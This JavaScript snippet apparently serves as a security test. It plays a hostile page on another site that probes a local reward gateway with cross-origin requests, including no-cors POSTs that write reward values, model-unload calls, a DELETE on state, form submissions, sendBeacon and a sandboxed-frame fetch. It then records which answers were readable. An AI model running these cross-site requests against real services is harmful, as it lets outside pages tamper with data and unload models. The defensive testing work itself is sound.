// What a page of another site tries on a gateway at an address; the result is what it could read of each answer.
(async (gateway) => {
  const read = {};
  const writing = (stream) => JSON.stringify({ items: [{ reward: 1 }], params: { stream } });
  const untyped = (text) => new Blob([text]);
  const attempt = async (name, path, options) => {
    try {
      const answer = await fetch(gateway + path, options);
      read[name] = answer.type === "opaque" ? "" : `${answer.status} ${await answer.text()}`;
    } catch {
      read[name] = "";
    }
  };
  const write = "/v1/transform/running_normalise";
  const unload = "/v2/repository/models";
  const post = { method: "POST", mode: "no-cors" };

  await attempt("state", "/v1/state");
  await attempt("rewards", "/v1/rewards", { mode: "no-cors" });
  await attempt("metrics", "/metrics");
  await attempt("untyped", write, { ...post, body: untyped(writing("untyped")) });
  await attempt("text", write, { ...post, body: writing("text") });
  await attempt("json", write, { method: "POST", body: writing("json"), headers: { "content-type": "application/json" } });
  await attempt("marked", `${unload}/marked/unload`, { method: "POST", headers: { "x-reward-gateway": "1" } });
  await attempt("bodyless", `${unload}/letters/unload`, post);
  await attempt("controlled", `${unload}/pictures/unload`, { ...post, body: "{}" });
  await attempt("deleted", "/v1/state/references/x", { method: "DELETE" });
  navigator.sendBeacon(gateway + write, untyped(writing("beacon")));

  // Forms and elements need no script of the gateway's; their answers go into frames that this page cannot read.
  const loaded = (element, address) =>
    new Promise((resolve) => {
      element.onload = element.onerror = resolve;
      if (address) element.src = address;
      document.body.append(element);
    });
  const frame = document.createElement("iframe");
  frame.name = "target";
  await loaded(frame);
  for (const enctype of ["text/plain", "application/x-www-form-urlencoded", "multipart/form-data"]) {
    const form = document.createElement("form");
    Object.assign(form, { method: "POST", target: "target", enctype, action: `${gateway}${unload}/letters/unload` });
    document.body.append(form);
    const answered = new Promise((resolve) => (frame.onload = resolve));
    form.submit();
    await answered;
  }
  await loaded(document.createElement("img"), gateway + "/v1/rewards");
  await loaded(document.createElement("script"), gateway + "/v1/state");
  await loaded(document.createElement("iframe"), gateway + "/docs");

  // A frame without an origin of its own.
  const sandboxed = document.createElement("iframe");
  sandboxed.sandbox = "allow-scripts";
  sandboxed.srcdoc = `<script>
    fetch("${gateway}${write}", { method: "POST", mode: "no-cors", body: new Blob(['${writing("sandboxed")}']) })
      .catch(() => 0).then(() => parent.postMessage("done", "*"));
  </script>`;
  const done = new Promise((resolve) => addEventListener("message", resolve, { once: true }));
  document.body.append(sandboxed);
  await done;
  return read;
})
